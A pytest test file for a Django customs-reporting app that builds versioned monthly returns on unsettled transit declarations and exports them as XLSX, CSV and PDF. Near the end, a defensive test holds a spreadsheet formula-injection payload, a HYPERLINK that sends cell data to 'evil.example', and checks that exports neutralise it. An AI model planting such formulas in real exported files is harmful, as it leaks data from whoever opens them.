"""Snapshots (versions, immutability, the 1st-of-month job), exports opened and checked, the command."""

import csv
import datetime as dt
import io
import json

import openpyxl
import pytest
from django.core.management import call_command
from django.core.management.base import CommandError

from core.dates import TEHRAN, jalali_month_bounds
from declarations.models import Status, UnsettledReason
from reports import exports, services, tasks
from reports.models import MonthlyReturn, ReturnStatus, SnapshotImmutable
from tests.days import months_back_month
from tests.factories import DeclarationFactory, VehicleFactory
from tests.pdftext import norm, pdf_text

DAY = dt.timedelta(days=1)
S, E = jalali_month_bounds(1404, 5)


@pytest.fixture
def unsettled(bazargan, tehran):
    return [
        DeclarationFactory(
            origin=bazargan,
            destination=tehran,
            declared_at=S - 20 * DAY,
            status=Status.UNSETTLED,
            arrived_at=S - 15 * DAY,
            deadline=S - 16 * DAY,
            unsettled_reason=UnsettledReason.DUPLICATE_WAYBILL,
            unsettled_at=S - 10 * DAY,
            serial=f"T14040000{i:03d}",
        )
        for i in range(3)
    ]


def test_it_builds_a_versioned_snapshot_with_all_exports(unsettled, west_az, inspector):
    snap = MonthlyReturn.objects.get(pk=tasks.build_monthly_return.delay(1404, 5, west_az.pk, inspector.pk).get())
    assert (snap.version, snap.status, snap.unsettled_count) == (1, ReturnStatus.DRAFT, 3)
    assert snap.figures["closing"] == 3 and snap.figures["province"] == "WAZ"

    wb = openpyxl.load_workbook(snap.xlsx.open("rb"))
    summary = {row[0]: row[1] for row in wb["خلاصه"].iter_rows(min_row=2, values_only=True)}
    assert summary["مانده پایان ماه (تسویه‌نشده)"] == 3
    assert summary["بیجک تکراری"] == 3
    serials = list(wb["سریال‌های تسویه‌نشده"].iter_rows(values_only=True))
    assert serials[0][0] == "شماره سریال"
    assert sorted(r[0] for r in serials[1:]) == [d.serial for d in unsettled]
    # arrived a day after its deadline (the clock stops at arrival), waiting 46 days for its settlement since
    assert serials[1][8] == "بیجک تکراری" and (serials[1][6], serials[1][10]) == (1, 46)
    assert wb["خلاصه"].sheet_view.rightToLeft

    text = snap.csv.open("rb").read().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert ["balance", "closing", "مانده پایان ماه (تسویه‌نشده)", "3"] in rows
    # Its period for programs: the Jalali month as a code, the Gregorian instants it runs from and to
    # (1404/05/01 is 23 July 2025, Tehran midnight) labelled with their Jalali days, as the serial list dates
    # (no Gregorian date a reader takes for the period), no Persian month name (the XLSX and PDF have it).
    assert rows[1:4] == [
        ["return", "period", "1404-05", "1404-05"],
        ["return", "start", "1404/05/01", "2025-07-23T00:00:00+03:30"],
        ["return", "end", "1404/06/01", "2025-08-23T00:00:00+03:30"],
    ]
    assert "مرداد" not in text
    # Its province and standing by code, as programs read them: no name stored at build (the XLSX and PDF
    # name them in Persian).
    assert rows[4:6] == [["return", "province", "WAZ", "WAZ"], ["return", "provisional", "no", "no"]]
    assert "آذربایجان" not in text and "قطعی" not in text
    header_at = rows.index(
        [
            "شماره سریال",
            "گمرک مبدأ",
            "گمرک مقصد",
            "تاریخ اظهار",
            "مهلت ترانزیت",
            "تاریخ وصول",
            "روز پس از مهلت (تا وصول یا پایان ماه)",
            "کد علت",
            "علت",
            "توضیح",
            "روز از وصول (در انتظار تسویه)",
        ]
    )
    assert [r[0] for r in rows[header_at + 1 :]] == [d.serial for d in unsettled]
    assert rows[header_at + 1][3] == "1404/04/12"  # 20 days before 1404/05/01 (Tir has 31 days), Jalali

    text = pdf_text(snap.pdf.open("rb").read())
    assert norm("گزارش ماهانه تسویه اظهارنامه‌های ترانزیتی") in text
    assert "۱۴۰۴" in text
    assert "بیجک تکراری" in text and norm("مانده پایان ماه") in text


def test_it_never_changes_a_submitted_snapshot_and_rebuilds_as_a_new_version(
    unsettled, west_az, inspector, bazargan, tehran
):
    first = services.return_build(year=1404, month=5, province=west_az, by=inspector)
    services.return_submit(monthly_return=first, by=inspector)
    first.refresh_from_db()
    assert first.status == ReturnStatus.SUBMITTED and first.submitted_by == inspector

    first.figures = {"closing": 0}
    with pytest.raises(SnapshotImmutable):
        first.save()
    with pytest.raises(SnapshotImmutable):
        first.delete()
    first.refresh_from_db()
    assert first.figures["closing"] == 3

    # Data changes after submission: a late-recorded declaration makes a new version, not an edit.
    DeclarationFactory(origin=bazargan, destination=tehran, declared_at=S + DAY, status=Status.REGISTERED)
    second = services.return_build(year=1404, month=5, province=west_az, by=inspector)
    assert second.version == 2 and second.figures["closing"] == 4
    first.refresh_from_db()
    assert first.figures["closing"] == 3 and first.status == ReturnStatus.SUBMITTED


def test_it_lets_only_the_province_and_hq_build(west_az, outsider, hq):
    from core.errors import NotAllowed

    # No declaration on record: a month inside the 24 months a return is built for (1404/05 is not, from 1406/06).
    year, month = months_back_month()
    with pytest.raises(NotAllowed):
        services.return_build(year=year, month=month, province=west_az, by=outsider)
    with pytest.raises(NotAllowed):
        services.return_build(year=year, month=month, province=None, by=outsider)
    assert services.return_build(year=year, month=month, province=None, by=hq).province is None


def test_it_builds_last_month_on_the_first_day_of_a_jalali_month_once(
    unsettled, west_az, tehran_province, khorasan, settings
):
    first_of_shahrivar = dt.datetime(2025, 8, 23, 0, 20, tzinfo=TEHRAN)  # 1404/06/01 00:20
    assert services.returns_due_at(first_of_shahrivar) == (1404, 5)
    assert services.returns_due_at(first_of_shahrivar + DAY) is None
    # Farvardin 1st builds last Esfand.
    assert services.returns_due_at(dt.datetime(2025, 3, 21, 0, 20, tzinfo=TEHRAN)) == (1403, 12)

    from unittest import mock

    with mock.patch("reports.services.timezone.now", return_value=first_of_shahrivar + dt.timedelta(hours=1)):
        built = tasks.build_monthly_returns_if_month_start.delay().get()
    assert len(built) == 4  # three provinces and the nation
    assert MonthlyReturn.objects.filter(year=1404, month=5).count() == 4
    national = MonthlyReturn.objects.get(year=1404, month=5, province=None)
    assert national.figures["closing"] == 3
    # A second run the same day builds nothing again.
    assert services.returns_to_build(1404, 5) == []


def test_it_runs_the_command_in_every_format(unsettled, west_az, tmp_path, capsys):
    out = io.StringIO()
    call_command("monthly_return", "1404", "5", "--province", "WAZ", "--format", "json", stdout=out)
    data = json.loads(out.getvalue())
    for key in ("opening", "new", "settled", "cancelled", "closing", "unsettled_by_reason", "unsettled_serials"):
        assert key in data
    assert data["opening"] + data["new"] - data["settled"] - data["cancelled"] == data["closing"] == 3
    assert [r["serial"] for r in data["unsettled_serials"]] == [d.serial for d in unsettled]
    assert data["unsettled_serials"][0]["reason"] == "duplicate_waybill"

    call_command("monthly_return", "1404", "5", "--format", "xlsx", "--out", str(tmp_path / "r.xlsx"))
    wb = openpyxl.load_workbook(tmp_path / "r.xlsx")
    assert "استان‌ها" in wb.sheetnames  # the national return carries the provinces
    call_command("monthly_return", "1404", "5", "--format", "pdf", "--out", str(tmp_path / "r.pdf"))
    assert "۱۴۰۴" in pdf_text((tmp_path / "r.pdf").read_bytes())
    call_command("monthly_return", "1404", "5", "--format", "csv", "--out", str(tmp_path / "r.csv"))
    assert unsettled[0].serial in (tmp_path / "r.csv").read_text()

    with pytest.raises(CommandError, match="--province"):
        call_command("monthly_return", "1404", "5", "--province", "NOPE", "--format", "json")
    with pytest.raises(CommandError, match="--out"):
        call_command("monthly_return", "1404", "5", "--format", "pdf")


def test_it_streams_a_long_serial_list_past_the_pdf_limit(bazargan, tehran, west_az):
    from declarations.models import TransitDeclaration
    from reports import exports
    from tests.factories import VehicleFactory

    v = VehicleFactory()
    TransitDeclaration.objects.bulk_create(
        TransitDeclaration(
            serial=f"X{i:06d}",
            declared_at=S - DAY,
            origin=bazargan,
            destination=tehran,
            vehicle=v,
            status=Status.IN_TRANSIT,
            departed_at=S - DAY,
            deadline=S + DAY,
        )
        for i in range(exports.PDF_SERIAL_LIMIT + 20)
    )
    figures = __import__("reports.returns", fromlist=["x"]).build_figures(1404, 5, west_az)
    buf = io.BytesIO()
    assert exports.write_xlsx(figures, buf) == exports.PDF_SERIAL_LIMIT + 20
    text = pdf_text(exports.render_pdf(figures))
    assert "X000000" in text  # same deadline: by serial
    assert f"X{exports.PDF_SERIAL_LIMIT + 19:06d}" not in text  # the PDF lists the first N only
    assert "XLSX" in text


def test_the_export_pass_picks_the_pdfs_most_overdue_serials_as_the_query_does(bazargan, tehran, west_az):
    """The snapshot build takes the PDF's serials from the XLSX/CSV pass (no second sorted query):
    longest past the deadline first, no deadline last, ties by serial, the same as the query."""
    import random

    rng = random.Random(5)
    v = VehicleFactory()
    deadlines = [S - DAY * rng.randint(0, 40) for _ in range(60)] + [S - DAY * 3] * 10 + [None] * 5
    for i, deadline in enumerate(deadlines):
        DeclarationFactory(
            serial=f"Y{rng.randint(0, 10**6):07d}-{i}",
            declared_at=S - DAY * 50,
            origin=bazargan,
            destination=tehran,
            vehicle=v,
            status=Status.IN_TRANSIT,
            departed_at=S - DAY * 50,
            deadline=deadline,
        )
    figures = __import__("reports.returns", fromlist=["x"]).build_figures(1404, 5, west_az)
    for limit in (5, 12, 70, 200):
        picked = exports.MostOverdue(limit)
        with io.StringIO() as csv_out:
            assert exports.write_xlsx(figures, io.BytesIO(), csv_out=csv_out, most_overdue=picked) == len(deadlines)
        queried = exports.most_overdue_cells(figures, limit)
        got = picked.cells()
        assert len(got) == min(limit, len(deadlines))

        # Same rows in the same order; cells compared as text (the CSV gives the day count as text).
        def text(rows):
            return [["" if c is None else str(c) for c in row] for row in rows]

        assert text(got) == text(queried)


@pytest.mark.postgres
@pytest.mark.django_db(transaction=True)
def test_the_figures_counted_beside_the_list_read_the_same_instant(unsettled, west_az, monkeypatch):
    """Outside a transaction the build counts the figures on a second connection while it
    streams the list; both read one snapshot, so a settlement committed in between shows in
    neither: the closing balance and the serial list still agree."""
    import psycopg2
    from django.db import connection

    from reports import returns

    assert not connection.in_atomic_block  # the concurrent path
    db = connection.settings_dict
    real = returns.build_figures
    main_thread = __import__("threading").get_ident()

    def settle_one_then_count(*args):
        assert __import__("threading").get_ident() != main_thread  # counted beside the list
        other = psycopg2.connect(dbname=db["NAME"], host=db["HOST"] or None, port=db["PORT"] or None, user=db["USER"])
        other.autocommit = True
        with other.cursor() as cur:
            cur.execute(
                "UPDATE declarations_transitdeclaration SET status = 'settled', settled_at = %s WHERE id = %s",
                [S + DAY, unsettled[0].pk],
            )
        other.close()
        return real(*args)

    monkeypatch.setattr(returns, "build_figures", settle_one_then_count)
    snap = services.return_build(year=1404, month=5, province=west_az, by=None)
    assert snap.figures["closing"] == snap.unsettled_count == 3 and snap.figures["settled"] == 0
    wb = openpyxl.load_workbook(snap.xlsx.open("rb"))
    assert wb.sheetnames[0] == "خلاصه" and wb.sheetnames[-1] == "سریال‌های تسویه‌نشده"
    assert len(list(wb["سریال‌های تسویه‌نشده"].values)) == 1 + 3
    # The settlement is there for the next build.
    monkeypatch.setattr(returns, "build_figures", real)
    again = services.return_build(year=1404, month=5, province=west_az, by=None)
    assert again.figures["closing"] == 2 and again.figures["settled"] == 1 and again.version == 2


FORMULA = '=HYPERLINK("http://evil.example/?d="&A2,"Click for details")'


def test_the_return_files_carry_an_imported_formula_as_text(bazargan, tehran, west_az, inspector):
    DeclarationFactory(
        serial="+98-0001",
        origin=bazargan,
        destination=tehran,
        declared_at=S - 20 * DAY,
        deadline=S - 16 * DAY,
        status=Status.UNSETTLED,
        unsettled_reason=UnsettledReason.OTHER,
        unsettled_at=S - 10 * DAY,
        unsettled_note=FORMULA,
    )
    snap = services.return_build(year=1404, month=5, province=west_az, by=inspector)

    sheet = openpyxl.load_workbook(snap.xlsx.open("rb"))["سریال‌های تسویه‌نشده"]
    serial, note = sheet.cell(2, 1), sheet.cell(2, 10)
    assert (serial.value, note.value) == ("'+98-0001", "'" + FORMULA)
    assert (serial.data_type, note.data_type) == ("s", "s")

    rows = list(csv.reader(io.StringIO(snap.csv.open("rb").read().decode("utf-8-sig"))))
    (row,) = [r for r in rows if r and r[0].endswith("+98-0001")]
    assert (row[0], row[9]) == ("'+98-0001", "'" + FORMULA)


def test_every_sheet_of_the_return_writes_a_formula_as_text():
    from reports.xlsx_stream import XlsxWriter

    buf = io.BytesIO()
    with XlsxWriter(buf) as wb:
        wb.sheet("cases", [["@SUM(1)", "-2+3", 7]], header=["a", "b", "c"])
    sheet = openpyxl.load_workbook(buf)["cases"]
    assert [c.value for c in sheet[2]] == ["'@SUM(1)", "'-2+3", 7]
